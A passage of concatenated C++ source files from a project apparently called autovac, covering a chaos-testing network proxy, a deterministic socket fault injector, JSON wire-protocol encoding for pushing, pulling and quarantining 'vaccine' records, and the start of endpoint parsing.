ChaosProxy::~ChaosProxy() { Stop(); }

Status ChaosProxy::Start() {
  if (running_) return Status::FailedPrecondition("proxy already running");

  AUTOVAC_ASSIGN_OR_RETURN(const Endpoint listen_endpoint,
                           ParseEndpoint(options_.listen_path));
  listen_unix_ = !listen_endpoint.tcp;
  AUTOVAC_ASSIGN_OR_RETURN(listen_fd_,
                           ListenEndpoint(listen_endpoint, /*backlog=*/16));
  if (listen_endpoint.tcp) {
    const Result<uint16_t> port = ListenPort(listen_fd_);
    if (!port.ok()) {
      ::close(listen_fd_);
      listen_fd_ = -1;
      return port.status();
    }
    listen_port_ = *port;
  }
  if (::pipe(stop_pipe_) != 0) {
    const int err = errno;
    ::close(listen_fd_);
    listen_fd_ = -1;
    if (listen_unix_) (void)::unlink(options_.listen_path.c_str());
    return Status::Internal(
        StrFormat("pipe failed: %s", std::strerror(err)));
  }
  accept_thread_ = std::thread(&ChaosProxy::AcceptLoop, this);
  running_ = true;
  return Status::Ok();
}

void ChaosProxy::Stop() {
  if (!running_) return;
  const char stop = 'x';
  while (::write(stop_pipe_[1], &stop, 1) < 0 && errno == EINTR) {
  }
  accept_thread_.join();
  ::close(listen_fd_);
  listen_fd_ = -1;
  listen_port_ = 0;
  ::close(stop_pipe_[0]);
  ::close(stop_pipe_[1]);
  stop_pipe_[0] = stop_pipe_[1] = -1;
  if (listen_unix_) (void)::unlink(options_.listen_path.c_str());
  running_ = false;
}

void ChaosProxy::AcceptLoop() {
  while (true) {
    pollfd fds[2];
    fds[0] = {stop_pipe_[0], POLLIN, 0};
    fds[1] = {listen_fd_, POLLIN, 0};
    const int ready = ::poll(fds, 2, -1);
    if (ready < 0) {
      if (errno == EINTR) continue;
      return;
    }
    if (fds[0].revents != 0) return;  // stop requested
    if ((fds[1].revents & POLLIN) == 0) continue;
    const int fd = ::accept(listen_fd_, nullptr, nullptr);
    if (fd < 0) continue;
    SetDeadline(fd, options_.deadline_ms);
    const ConnectionFaults faults = injector_.OnConnect();
    connections_.fetch_add(1, std::memory_order_relaxed);
    if (!faults.Clean()) {
      faults_injected_.fetch_add(1, std::memory_order_relaxed);
    }
    if (options_.verbose) {
      std::fprintf(stderr, "chaos-proxy: conn %llu: %s\n",
                   static_cast<unsigned long long>(connections()),
                   faults.Summary().c_str());
    }
    Relay(fd, faults);
  }
}

bool ChaosProxy::RelayBytes(int fd, std::string_view bytes, int64_t cut_at,
                            bool byte_at_a_time, uint64_t* relayed) {
  size_t offset = 0;
  while (offset < bytes.size()) {
    if (cut_at >= 0 && *relayed >= static_cast<uint64_t>(cut_at)) {
      (void)::shutdown(fd, SHUT_RDWR);
      return false;
    }
    size_t chunk = bytes.size() - offset;
    if (cut_at >= 0) {
      chunk = std::min<size_t>(chunk,
                               static_cast<uint64_t>(cut_at) - *relayed);
    }
    if (byte_at_a_time) chunk = 1;
    const ssize_t n = ::send(fd, bytes.data() + offset, chunk, MSG_NOSIGNAL);
    if (n < 0) {
      if (errno == EINTR) continue;
      return false;
    }
    offset += static_cast<size_t>(n);
    *relayed += static_cast<uint64_t>(n);
  }
  return true;
}

void ChaosProxy::Relay(int client_fd, const ConnectionFaults& faults) {
  if (faults.refuse) {
    // Close without a byte: the client observes a refused/empty
    // connection, the NotFound outcome its retry loop keys on.
    ::close(client_fd);
    return;
  }
  if (faults.stall_ms > 0) {
    ::usleep(static_cast<useconds_t>(faults.stall_ms * 1000));
  }

  Result<std::string> request = ReadNetFrame(client_fd);
  if (!request.ok()) {
    ::close(client_fd);
    return;
  }
  const std::string raw_request = EncodeNetFrame(*request);

  const int backend = ConnectBackend(options_.backend_path, options_.deadline_ms);
  if (backend < 0) {
    ::close(client_fd);
    return;
  }
  uint64_t sent = 0;
  if (!RelayBytes(backend, raw_request, faults.cut_send_at,
                  faults.short_send, &sent)) {
    // The server saw a torn request; the client gets no reply at all.
    ::close(backend);
    ::close(client_fd);
    return;
  }

  if (faults.duplicate) {
    // The wire event an idempotent push must absorb: the same request
    // frame arrives twice, and only one reply reaches the client.
    const int twin = ConnectBackend(options_.backend_path, options_.deadline_ms);
    if (twin >= 0) {
      uint64_t twin_sent = 0;
      if (RelayBytes(twin, raw_request, -1, false, &twin_sent)) {
        (void)ReadNetFrame(twin);  // drain and discard the twin reply
      }
      ::close(twin);
    }
  }

  Result<std::string> reply = ReadNetFrame(backend);
  ::close(backend);
  if (!reply.ok()) {
    ::close(client_fd);
    return;
  }
  uint64_t received = 0;
  (void)RelayBytes(client_fd, EncodeNetFrame(*reply), faults.cut_recv_at,
                   faults.short_recv, &received);
  ::close(client_fd);
}

}  // namespace autovac::net
