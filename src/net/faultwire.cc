#include "net/faultwire.h"

#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <cerrno>
#include <memory>
#include <mutex>
#include <unordered_map>

#include "support/strings.h"

namespace autovac::net {

const char* NetFaultOpName(NetFaultOp op) {
  switch (op) {
    case NetFaultOp::kConnect:
      return "connect";
    case NetFaultOp::kSend:
      return "send";
    case NetFaultOp::kRecv:
      return "recv";
  }
  return "?";
}

const char* NetFaultActionName(NetFaultAction action) {
  switch (action) {
    case NetFaultAction::kRefuse:
      return "refuse";
    case NetFaultAction::kCutAtByte:
      return "cut";
    case NetFaultAction::kShortIo:
      return "short";
    case NetFaultAction::kEintr:
      return "eintr";
    case NetFaultAction::kStall:
      return "stall";
    case NetFaultAction::kDuplicate:
      return "duplicate";
  }
  return "?";
}

bool ConnectionFaults::Clean() const {
  return !refuse && cut_send_at < 0 && cut_recv_at < 0 && !short_send &&
         !short_recv && !eintr_send && !eintr_recv && stall_ms == 0 &&
         !duplicate;
}

std::string ConnectionFaults::Summary() const {
  if (Clean()) return "clean";
  std::string out;
  const auto tag = [&out](const std::string& piece) {
    if (!out.empty()) out += ' ';
    out += piece;
  };
  if (refuse) tag("refuse");
  if (cut_send_at >= 0) {
    tag(StrFormat("cut_send@%lld", static_cast<long long>(cut_send_at)));
  }
  if (cut_recv_at >= 0) {
    tag(StrFormat("cut_recv@%lld", static_cast<long long>(cut_recv_at)));
  }
  if (short_send) tag("short_send");
  if (short_recv) tag("short_recv");
  if (eintr_send) tag("eintr_send");
  if (eintr_recv) tag("eintr_recv");
  if (stall_ms > 0) {
    tag(StrFormat("stall%llums", static_cast<unsigned long long>(stall_ms)));
  }
  if (duplicate) tag("dup");
  return out;
}

NetFaultPlan NetFaultPlan::Randomized(uint64_t seed, double fault_rate) {
  NetFaultPlan plan(seed);
  Rng rng(seed ^ HashSeed("netfaultplan"));
  const double rate = std::clamp(fault_rate, 0.0, 1.0);
  const double frequent = std::min(1.0, 3.0 * rate);

  NetFaultRule refuse;
  refuse.op = NetFaultOp::kConnect;
  refuse.action = NetFaultAction::kRefuse;
  refuse.probability = rate;
  plan.AddRule(refuse);

  // Cut offsets are drawn once at plan-build time: small offsets land in
  // the frame header, larger ones mid-payload, and both stay identical
  // for every injector built from this plan.
  NetFaultRule cut_send;
  cut_send.op = NetFaultOp::kSend;
  cut_send.action = NetFaultAction::kCutAtByte;
  cut_send.byte_offset = static_cast<int64_t>(rng.NextBelow(96));
  cut_send.probability = rate;
  plan.AddRule(cut_send);

  NetFaultRule cut_recv;
  cut_recv.op = NetFaultOp::kRecv;
  cut_recv.action = NetFaultAction::kCutAtByte;
  cut_recv.byte_offset = static_cast<int64_t>(rng.NextBelow(96));
  cut_recv.probability = rate;
  plan.AddRule(cut_recv);

  NetFaultRule short_send;
  short_send.op = NetFaultOp::kSend;
  short_send.action = NetFaultAction::kShortIo;
  short_send.probability = frequent;
  plan.AddRule(short_send);

  NetFaultRule short_recv;
  short_recv.op = NetFaultOp::kRecv;
  short_recv.action = NetFaultAction::kShortIo;
  short_recv.probability = frequent;
  plan.AddRule(short_recv);

  NetFaultRule eintr_send;
  eintr_send.op = NetFaultOp::kSend;
  eintr_send.action = NetFaultAction::kEintr;
  eintr_send.probability = frequent;
  plan.AddRule(eintr_send);

  NetFaultRule eintr_recv;
  eintr_recv.op = NetFaultOp::kRecv;
  eintr_recv.action = NetFaultAction::kEintr;
  eintr_recv.probability = frequent;
  plan.AddRule(eintr_recv);

  NetFaultRule stall;
  stall.op = NetFaultOp::kConnect;
  stall.action = NetFaultAction::kStall;
  stall.stall_ms = 1 + rng.NextBelow(4);
  stall.probability = rate;
  plan.AddRule(stall);

  NetFaultRule duplicate;
  duplicate.op = NetFaultOp::kConnect;
  duplicate.action = NetFaultAction::kDuplicate;
  duplicate.probability = rate;
  plan.AddRule(duplicate);

  return plan;
}

std::string NetFaultPlan::Summary() const {
  std::string out = StrFormat("netfaults[seed=%llu",
                              static_cast<unsigned long long>(seed_));
  for (const NetFaultRule& rule : rules_) {
    out += StrFormat(" %s/%s", NetFaultOpName(rule.op),
                     NetFaultActionName(rule.action));
    if (rule.occurrence >= 0) {
      out += StrFormat("@%d", rule.occurrence);
    } else if (rule.every > 0) {
      out += StrFormat("%%%d", rule.every);
    } else {
      out += StrFormat("~%.3f", rule.probability);
    }
    if (rule.action == NetFaultAction::kCutAtByte) {
      out += StrFormat(":%lld", static_cast<long long>(rule.byte_offset));
    }
  }
  out += "]";
  return out;
}

NetFaultInjector::NetFaultInjector(NetFaultPlan plan)
    : plan_(std::move(plan)),
      rng_(plan_.seed() ^ HashSeed("netfaultinjector")),
      rule_fired_(plan_.rules().size(), false) {}

ConnectionFaults NetFaultInjector::OnConnect() {
  const uint32_t index = next_connection_++;
  ConnectionFaults faults;
  for (size_t i = 0; i < plan_.rules().size(); ++i) {
    const NetFaultRule& rule = plan_.rules()[i];
    bool fires = false;
    if (rule.occurrence >= 0) {
      if (!rule_fired_[i] &&
          static_cast<uint32_t>(rule.occurrence) == index) {
        fires = true;
        rule_fired_[i] = true;
      }
    } else if (rule.every > 0) {
      fires = index % static_cast<uint32_t>(rule.every) == 0;
    } else if (rule.probability > 0.0) {
      // Always consume one draw so the stream stays aligned no matter
      // which rules fire — determinism over economy.
      fires = rng_.NextBool(rule.probability);
    }
    if (!fires) continue;
    switch (rule.action) {
      case NetFaultAction::kRefuse:
        faults.refuse = true;
        break;
      case NetFaultAction::kCutAtByte:
        if (rule.op == NetFaultOp::kRecv) {
          faults.cut_recv_at = rule.byte_offset;
        } else {
          faults.cut_send_at = rule.byte_offset;
        }
        break;
      case NetFaultAction::kShortIo:
        if (rule.op == NetFaultOp::kRecv) {
          faults.short_recv = true;
        } else {
          faults.short_send = true;
        }
        break;
      case NetFaultAction::kEintr:
        if (rule.op == NetFaultOp::kRecv) {
          faults.eintr_recv = true;
        } else {
          faults.eintr_send = true;
        }
        break;
      case NetFaultAction::kStall:
        faults.stall_ms = std::max(faults.stall_ms, rule.stall_ms);
        break;
      case NetFaultAction::kDuplicate:
        faults.duplicate = true;
        break;
    }
  }
  if (!faults.Clean()) ++faults_injected_;
  return faults;
}

// ---------------------------------------------------------------------
// Wire shim.

namespace {

// Per-fd fault state for one registered client connection.
struct WireConnState {
  ConnectionFaults faults;
  uint64_t sent = 0;      // client->server bytes that went out
  uint64_t received = 0;  // server->client bytes that came in
  bool eintr_send_done = false;
  bool eintr_recv_done = false;
};

struct WireShim {
  std::mutex mutex;
  const NetFaultPlan* plan = nullptr;
  std::unique_ptr<NetFaultInjector> injector;
  std::unordered_map<int, WireConnState> conns;
};

std::atomic<bool> g_wire_active{false};

WireShim& Shim() {
  static WireShim* shim = new WireShim;
  return *shim;
}

int RawConnect(int fd, const sockaddr* addr, socklen_t len) {
  while (::connect(fd, addr, len) != 0) {
    if (errno == EINTR) {
      // An interrupted connect may still complete in the background;
      // retrying then reports EISCONN, which is success for us.
      continue;
    }
    if (errno == EISCONN) break;
    return -1;
  }
  return 0;
}

// Severs both directions so the peer observes a real mid-frame hang-up,
// not just a local error.
void SeverConnection(int fd) { (void)::shutdown(fd, SHUT_RDWR); }

}  // namespace

void InstallWireFaults(const NetFaultPlan* plan) {
  WireShim& shim = Shim();
  std::lock_guard<std::mutex> lock(shim.mutex);
  shim.plan = plan;
  shim.injector =
      plan != nullptr ? std::make_unique<NetFaultInjector>(*plan) : nullptr;
  shim.conns.clear();
  g_wire_active.store(plan != nullptr, std::memory_order_release);
}

bool WireFaultsActive() {
  return g_wire_active.load(std::memory_order_acquire);
}

uint64_t WireFaultConnections() {
  WireShim& shim = Shim();
  std::lock_guard<std::mutex> lock(shim.mutex);
  return shim.injector != nullptr ? shim.injector->connections() : 0;
}

int WireConnect(int fd, const sockaddr* addr, socklen_t len) {
  if (!WireFaultsActive()) return RawConnect(fd, addr, len);

  ConnectionFaults faults;
  {
    WireShim& shim = Shim();
    std::lock_guard<std::mutex> lock(shim.mutex);
    if (shim.injector == nullptr) return RawConnect(fd, addr, len);
    faults = shim.injector->OnConnect();
  }
  if (faults.refuse) {
    errno = ECONNREFUSED;
    return -1;
  }
  if (faults.stall_ms > 0) {
    ::usleep(static_cast<useconds_t>(faults.stall_ms * 1000));
  }
  if (RawConnect(fd, addr, len) != 0) return -1;
  if (!faults.Clean()) {
    WireShim& shim = Shim();
    std::lock_guard<std::mutex> lock(shim.mutex);
    shim.conns[fd] = WireConnState{faults, 0, 0, false, false};
  }
  return 0;
}

ssize_t WireSend(int fd, const void* buf, size_t len, int flags) {
  if (!WireFaultsActive()) return ::send(fd, buf, len, flags);

  // Decide what to do under the lock, but perform the (potentially
  // blocking) syscall outside it: with client and server in one process
  // a worker parked in send() must not hold the shim mutex, or every
  // other connection serializes behind its socket deadline.
  size_t allowed = len;
  {
    WireShim& shim = Shim();
    std::lock_guard<std::mutex> lock(shim.mutex);
    auto it = shim.conns.find(fd);
    if (it != shim.conns.end()) {
      WireConnState& state = it->second;
      if (state.faults.eintr_send && !state.eintr_send_done) {
        state.eintr_send_done = true;
        errno = EINTR;
        return -1;
      }
      if (state.faults.cut_send_at >= 0) {
        const uint64_t cut =
            static_cast<uint64_t>(state.faults.cut_send_at);
        if (state.sent >= cut) {
          SeverConnection(fd);
          errno = ECONNRESET;
          return -1;
        }
        allowed = std::min<size_t>(allowed, cut - state.sent);
      }
      if (state.faults.short_send) allowed = std::min<size_t>(allowed, 1);
    }
  }
  const ssize_t n = ::send(fd, buf, allowed, flags);
  if (n > 0) {
    WireShim& shim = Shim();
    std::lock_guard<std::mutex> lock(shim.mutex);
    auto it = shim.conns.find(fd);
    if (it != shim.conns.end()) it->second.sent += static_cast<uint64_t>(n);
  }
  return n;
}

ssize_t WireRecv(int fd, void* buf, size_t len) {
  if (!WireFaultsActive()) return ::read(fd, buf, len);

  // Same rule as WireSend: no blocking read() while the mutex is held.
  size_t allowed = len;
  {
    WireShim& shim = Shim();
    std::lock_guard<std::mutex> lock(shim.mutex);
    auto it = shim.conns.find(fd);
    if (it != shim.conns.end()) {
      WireConnState& state = it->second;
      if (state.faults.eintr_recv && !state.eintr_recv_done) {
        state.eintr_recv_done = true;
        errno = EINTR;
        return -1;
      }
      if (state.faults.cut_recv_at >= 0) {
        const uint64_t cut =
            static_cast<uint64_t>(state.faults.cut_recv_at);
        if (state.received >= cut) {
          // The bytes may exist, but this connection never sees them:
          // the reader observes a peer hang-up exactly `cut` bytes in.
          SeverConnection(fd);
          return 0;
        }
        allowed = std::min<size_t>(allowed, cut - state.received);
      }
      if (state.faults.short_recv) allowed = std::min<size_t>(allowed, 1);
    }
  }
  const ssize_t n = ::read(fd, buf, allowed);
  if (n > 0) {
    WireShim& shim = Shim();
    std::lock_guard<std::mutex> lock(shim.mutex);
    auto it = shim.conns.find(fd);
    if (it != shim.conns.end()) {
      it->second.received += static_cast<uint64_t>(n);
    }
  }
  return n;
}

void WireClose(int fd) {
  if (WireFaultsActive()) {
    WireShim& shim = Shim();
    std::lock_guard<std::mutex> lock(shim.mutex);
    shim.conns.erase(fd);
  }
  ::close(fd);
}

}  // namespace autovac::net
