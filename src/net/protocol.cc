#include "net/protocol.h"

#include "support/json.h"
#include "support/strings.h"
#include "vaccine/json.h"

namespace autovac::net {
namespace {

std::string VaccineArrayJson(const std::vector<vaccine::Vaccine>& vaccines) {
  std::string out = "[";
  for (size_t i = 0; i < vaccines.size(); ++i) {
    if (i > 0) out += ",";
    out += vaccine::VaccineToJson(vaccines[i]);
  }
  out += "]";
  return out;
}

Result<std::vector<vaccine::Vaccine>> ParseVaccineArray(
    const JsonValue& json, std::string_view key) {
  const JsonValue* array = json.Find(key);
  if (array == nullptr || !array->is_array()) {
    return Status::InvalidArgument(
        StrFormat("missing array field '%s'", std::string(key).c_str()));
  }
  std::vector<vaccine::Vaccine> vaccines;
  vaccines.reserve(array->array.size());
  for (const JsonValue& element : array->array) {
    AUTOVAC_ASSIGN_OR_RETURN(vaccine::Vaccine vaccine,
                             vaccine::VaccineFromJson(element));
    vaccines.push_back(std::move(vaccine));
  }
  return vaccines;
}

Result<uint64_t> EnumField(const JsonValue& json, std::string_view key,
                           size_t bound) {
  AUTOVAC_ASSIGN_OR_RETURN(const uint64_t value, JsonFieldUint64(json, key));
  if (value >= bound) {
    return Status::InvalidArgument(
        StrFormat("field '%s' out of range", std::string(key).c_str()));
  }
  return value;
}

}  // namespace

std::string RequestToJson(const Request& request) {
  if (const auto* push = std::get_if<PushRequest>(&request)) {
    if (push->request_id.empty()) {
      return StrFormat("{\"op\":\"push\",\"vaccines\":%s}",
                       VaccineArrayJson(push->vaccines).c_str());
    }
    return StrFormat("{\"op\":\"push\",\"request_id\":\"%s\",\"vaccines\":%s}",
                     JsonEscape(push->request_id).c_str(),
                     VaccineArrayJson(push->vaccines).c_str());
  }
  if (const auto* query = std::get_if<QueryRequest>(&request)) {
    return StrFormat("{\"op\":\"query\",\"resource\":%d,\"identifier\":\"%s\"}",
                     static_cast<int>(query->resource_type),
                     JsonEscape(query->identifier).c_str());
  }
  if (const auto* pull = std::get_if<PullRequest>(&request)) {
    if (pull->limit == 0) {
      return StrFormat("{\"op\":\"pull\",\"since\":%llu}",
                       static_cast<unsigned long long>(pull->since));
    }
    return StrFormat("{\"op\":\"pull\",\"since\":%llu,\"limit\":%llu}",
                     static_cast<unsigned long long>(pull->since),
                     static_cast<unsigned long long>(pull->limit));
  }
  if (const auto* quarantine = std::get_if<QuarantineRequest>(&request)) {
    return StrFormat("{\"op\":\"quarantine\",\"digest\":\"%s\","
                     "\"reason\":\"%s\"}",
                     JsonEscape(quarantine->digest).c_str(),
                     JsonEscape(quarantine->reason).c_str());
  }
  return "{\"op\":\"status\"}";
}

Result<Request> ParseRequest(std::string_view text) {
  AUTOVAC_ASSIGN_OR_RETURN(const JsonValue json, ParseJson(text));
  AUTOVAC_ASSIGN_OR_RETURN(const std::string op, JsonFieldString(json, "op"));
  if (op == "push") {
    PushRequest request;
    AUTOVAC_ASSIGN_OR_RETURN(request.vaccines,
                             ParseVaccineArray(json, "vaccines"));
    if (json.Find("request_id") != nullptr) {
      AUTOVAC_ASSIGN_OR_RETURN(request.request_id,
                               JsonFieldString(json, "request_id"));
    }
    return Request(std::move(request));
  }
  if (op == "query") {
    QueryRequest request;
    AUTOVAC_ASSIGN_OR_RETURN(
        const uint64_t resource,
        EnumField(json, "resource", os::kNumResourceTypes));
    request.resource_type = static_cast<os::ResourceType>(resource);
    AUTOVAC_ASSIGN_OR_RETURN(request.identifier,
                             JsonFieldString(json, "identifier"));
    return Request(std::move(request));
  }
  if (op == "pull") {
    PullRequest request;
    AUTOVAC_ASSIGN_OR_RETURN(request.since, JsonFieldUint64(json, "since"));
    if (json.Find("limit") != nullptr) {
      AUTOVAC_ASSIGN_OR_RETURN(request.limit, JsonFieldUint64(json, "limit"));
    }
    return Request(request);
  }
  if (op == "quarantine") {
    QuarantineRequest request;
    AUTOVAC_ASSIGN_OR_RETURN(request.digest, JsonFieldString(json, "digest"));
    AUTOVAC_ASSIGN_OR_RETURN(request.reason, JsonFieldString(json, "reason"));
    return Request(std::move(request));
  }
  if (op == "status") return Request(StatusRequest{});
  return Status::InvalidArgument(
      StrFormat("unknown op '%s'", op.c_str()));
}

std::string ReplyToJson(const Reply& reply) {
  if (const auto* push = std::get_if<PushReply>(&reply)) {
    return StrFormat(
        "{\"ok\":true,\"op\":\"push\",\"added\":%llu,\"duplicates\":%llu,"
        "\"quarantined\":%llu,\"epoch\":%llu}",
        static_cast<unsigned long long>(push->added),
        static_cast<unsigned long long>(push->duplicates),
        static_cast<unsigned long long>(push->quarantined),
        static_cast<unsigned long long>(push->epoch));
  }
  if (const auto* query = std::get_if<QueryReply>(&reply)) {
    return StrFormat("{\"ok\":true,\"op\":\"query\",\"matches\":%s}",
                     VaccineArrayJson(query->matches).c_str());
  }
  if (const auto* pull = std::get_if<PullReply>(&reply)) {
    std::string items = "[";
    for (size_t i = 0; i < pull->items.size(); ++i) {
      const FeedItem& item = pull->items[i];
      if (i > 0) items += ",";
      // The tombstone flag is emitted only when set, so full pulls keep
      // their pre-tombstone bytes (the restart byte-identity contract).
      items += StrFormat(
          "{\"digest\":\"%s\",\"epoch\":%llu,%s\"vaccine\":%s}",
          item.digest.c_str(), static_cast<unsigned long long>(item.epoch),
          item.quarantined ? "\"quarantined\":true," : "",
          vaccine::VaccineToJson(item.vaccine).c_str());
    }
    items += "]";
    return StrFormat("{\"ok\":true,\"op\":\"pull\",\"epoch\":%llu,"
                     "\"more\":%s,\"items\":%s}",
                     static_cast<unsigned long long>(pull->epoch),
                     pull->more ? "true" : "false", items.c_str());
  }
  if (const auto* quarantine = std::get_if<QuarantineReply>(&reply)) {
    return StrFormat(
        "{\"ok\":true,\"op\":\"quarantine\",\"epoch\":%llu,\"already\":%s}",
        static_cast<unsigned long long>(quarantine->epoch),
        quarantine->already ? "true" : "false");
  }
  if (const auto* status = std::get_if<StatusReply>(&reply)) {
    return StrFormat(
        "{\"ok\":true,\"op\":\"status\",\"epoch\":%llu,\"served\":%llu,"
        "\"quarantined\":%llu,\"requests\":%llu,\"shed\":%llu,"
        "\"evicted\":%llu,\"checkpoint_epoch\":%llu,\"replayed\":%llu,"
        "\"dedup_hits\":%llu}",
        static_cast<unsigned long long>(status->epoch),
        static_cast<unsigned long long>(status->served),
        static_cast<unsigned long long>(status->quarantined),
        static_cast<unsigned long long>(status->requests),
        static_cast<unsigned long long>(status->shed),
        static_cast<unsigned long long>(status->evicted),
        static_cast<unsigned long long>(status->checkpoint_epoch),
        static_cast<unsigned long long>(status->replayed),
        static_cast<unsigned long long>(status->dedup_hits));
  }
  const auto& error = std::get<ErrorReply>(reply);
  return StrFormat("{\"ok\":false,\"busy\":%s,\"error\":\"%s\"}",
                   error.busy ? "true" : "false",
                   JsonEscape(error.message).c_str());
}

Result<Reply> ParseReply(std::string_view text) {
  AUTOVAC_ASSIGN_OR_RETURN(const JsonValue json, ParseJson(text));
  AUTOVAC_ASSIGN_OR_RETURN(const bool ok, JsonFieldBool(json, "ok"));
  if (!ok) {
    ErrorReply error;
    AUTOVAC_ASSIGN_OR_RETURN(error.busy, JsonFieldBool(json, "busy"));
    AUTOVAC_ASSIGN_OR_RETURN(error.message, JsonFieldString(json, "error"));
    return Reply(std::move(error));
  }
  AUTOVAC_ASSIGN_OR_RETURN(const std::string op, JsonFieldString(json, "op"));
  if (op == "push") {
    PushReply reply;
    AUTOVAC_ASSIGN_OR_RETURN(reply.added, JsonFieldUint64(json, "added"));
    AUTOVAC_ASSIGN_OR_RETURN(reply.duplicates,
                             JsonFieldUint64(json, "duplicates"));
    AUTOVAC_ASSIGN_OR_RETURN(reply.quarantined,
                             JsonFieldUint64(json, "quarantined"));
    AUTOVAC_ASSIGN_OR_RETURN(reply.epoch, JsonFieldUint64(json, "epoch"));
    return Reply(reply);
  }
  if (op == "query") {
    QueryReply reply;
    AUTOVAC_ASSIGN_OR_RETURN(reply.matches,
                             ParseVaccineArray(json, "matches"));
    return Reply(std::move(reply));
  }
  if (op == "pull") {
    PullReply reply;
    AUTOVAC_ASSIGN_OR_RETURN(reply.epoch, JsonFieldUint64(json, "epoch"));
    if (json.Find("more") != nullptr) {
      AUTOVAC_ASSIGN_OR_RETURN(reply.more, JsonFieldBool(json, "more"));
    }
    const JsonValue* items = json.Find("items");
    if (items == nullptr || !items->is_array()) {
      return Status::InvalidArgument("pull reply has no items array");
    }
    for (const JsonValue& element : items->array) {
      FeedItem item;
      AUTOVAC_ASSIGN_OR_RETURN(item.digest,
                               JsonFieldString(element, "digest"));
      AUTOVAC_ASSIGN_OR_RETURN(item.epoch, JsonFieldUint64(element, "epoch"));
      if (element.Find("quarantined") != nullptr) {
        AUTOVAC_ASSIGN_OR_RETURN(item.quarantined,
                                 JsonFieldBool(element, "quarantined"));
      }
      const JsonValue* vaccine = element.Find("vaccine");
      if (vaccine == nullptr) {
        return Status::InvalidArgument("feed item has no vaccine");
      }
      AUTOVAC_ASSIGN_OR_RETURN(item.vaccine,
                               vaccine::VaccineFromJson(*vaccine));
      reply.items.push_back(std::move(item));
    }
    return Reply(std::move(reply));
  }
  if (op == "quarantine") {
    QuarantineReply reply;
    AUTOVAC_ASSIGN_OR_RETURN(reply.epoch, JsonFieldUint64(json, "epoch"));
    AUTOVAC_ASSIGN_OR_RETURN(reply.already, JsonFieldBool(json, "already"));
    return Reply(reply);
  }
  if (op == "status") {
    StatusReply reply;
    AUTOVAC_ASSIGN_OR_RETURN(reply.epoch, JsonFieldUint64(json, "epoch"));
    AUTOVAC_ASSIGN_OR_RETURN(reply.served, JsonFieldUint64(json, "served"));
    AUTOVAC_ASSIGN_OR_RETURN(reply.quarantined,
                             JsonFieldUint64(json, "quarantined"));
    AUTOVAC_ASSIGN_OR_RETURN(reply.requests,
                             JsonFieldUint64(json, "requests"));
    AUTOVAC_ASSIGN_OR_RETURN(reply.shed, JsonFieldUint64(json, "shed"));
    if (json.Find("evicted") != nullptr) {
      AUTOVAC_ASSIGN_OR_RETURN(reply.evicted,
                               JsonFieldUint64(json, "evicted"));
    }
    // Recovery/ops fields arrived after v1 of the protocol; a reply from
    // an older server simply leaves them zero.
    if (json.Find("checkpoint_epoch") != nullptr) {
      AUTOVAC_ASSIGN_OR_RETURN(reply.checkpoint_epoch,
                               JsonFieldUint64(json, "checkpoint_epoch"));
    }
    if (json.Find("replayed") != nullptr) {
      AUTOVAC_ASSIGN_OR_RETURN(reply.replayed,
                               JsonFieldUint64(json, "replayed"));
    }
    if (json.Find("dedup_hits") != nullptr) {
      AUTOVAC_ASSIGN_OR_RETURN(reply.dedup_hits,
                               JsonFieldUint64(json, "dedup_hits"));
    }
    return Reply(reply);
  }
  return Status::InvalidArgument(
      StrFormat("unknown reply op '%s'", op.c_str()));
}

}  // namespace autovac::net
