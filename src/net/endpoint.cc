#include "net/endpoint.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>

#include "net/faultwire.h"
#include "support/strings.h"

namespace autovac::net {
namespace {

constexpr std::string_view kTcpPrefix = "tcp:";

void SetDeadlines(int fd, uint64_t deadline_ms) {
  timeval tv;
  tv.tv_sec = static_cast<time_t>(deadline_ms / 1000);
  tv.tv_usec = static_cast<suseconds_t>((deadline_ms % 1000) * 1000);
  (void)::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
  (void)::setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
}

Result<sockaddr_in> TcpAddress(const Endpoint& endpoint) {
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(endpoint.port);
  const std::string host =
      endpoint.host == "localhost" ? "127.0.0.1" : endpoint.host;
  if (::inet_pton(AF_INET, host.c_str(), &addr.sin_addr) != 1) {
    return Status::InvalidArgument(StrFormat(
        "bad TCP host '%s' (numeric IPv4 or localhost)", host.c_str()));
  }
  return addr;
}

Result<sockaddr_un> UnixAddress(const std::string& path) {
  sockaddr_un addr{};
  if (path.size() >= sizeof(addr.sun_path)) {
    return Status::InvalidArgument(
        StrFormat("socket path too long: %s", path.c_str()));
  }
  addr.sun_family = AF_UNIX;
  std::memcpy(addr.sun_path, path.c_str(), path.size() + 1);
  return addr;
}

}  // namespace

std::string Endpoint::Spec() const {
  if (!tcp) return path;
  return StrFormat("tcp:%s:%u", host.c_str(),
                   static_cast<unsigned>(port));
}

Result<Endpoint> ParseEndpoint(std::string_view spec) {
  Endpoint endpoint;
  if (spec.substr(0, kTcpPrefix.size()) != kTcpPrefix) {
    if (spec.empty()) {
      return Status::InvalidArgument("empty endpoint spec");
    }
    endpoint.path = std::string(spec);
    return endpoint;
  }
  endpoint.tcp = true;
  const std::string_view rest = spec.substr(kTcpPrefix.size());
  const size_t colon = rest.rfind(':');
  std::string_view host = "127.0.0.1";
  std::string_view port_text = rest;
  if (colon != std::string_view::npos) {
    host = rest.substr(0, colon);
    port_text = rest.substr(colon + 1);
  }
  if (host.empty() || port_text.empty()) {
    return Status::InvalidArgument(
        StrFormat("bad TCP endpoint '%s' (want tcp:host:port)",
                  std::string(spec).c_str()));
  }
  uint64_t port = 0;
  for (char c : port_text) {
    if (c < '0' || c > '9') {
      return Status::InvalidArgument(
          StrFormat("bad TCP port in '%s'", std::string(spec).c_str()));
    }
    port = port * 10 + static_cast<uint64_t>(c - '0');
    if (port > 65535) {
      return Status::InvalidArgument(
          StrFormat("TCP port out of range in '%s'",
                    std::string(spec).c_str()));
    }
  }
  endpoint.host = std::string(host);
  endpoint.port = static_cast<uint16_t>(port);
  return endpoint;
}

Result<int> ListenEndpoint(const Endpoint& endpoint, int backlog) {
  if (endpoint.tcp) {
    AUTOVAC_ASSIGN_OR_RETURN(const sockaddr_in addr, TcpAddress(endpoint));
    const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0) {
      return Status::Internal(
